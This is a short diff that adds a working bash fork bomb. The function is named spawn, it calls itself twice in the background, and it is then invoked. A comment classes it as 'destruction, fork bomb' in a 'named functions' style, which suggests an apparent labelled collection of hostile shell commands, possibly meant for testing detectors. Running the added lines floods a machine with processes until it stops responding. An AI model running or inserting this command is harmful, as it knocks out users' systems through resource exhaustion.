@@ -1,0 +1,3 @@
+# class: destruction, fork bomb; style: named functions
+spawn() { spawn | spawn & }
+spawn
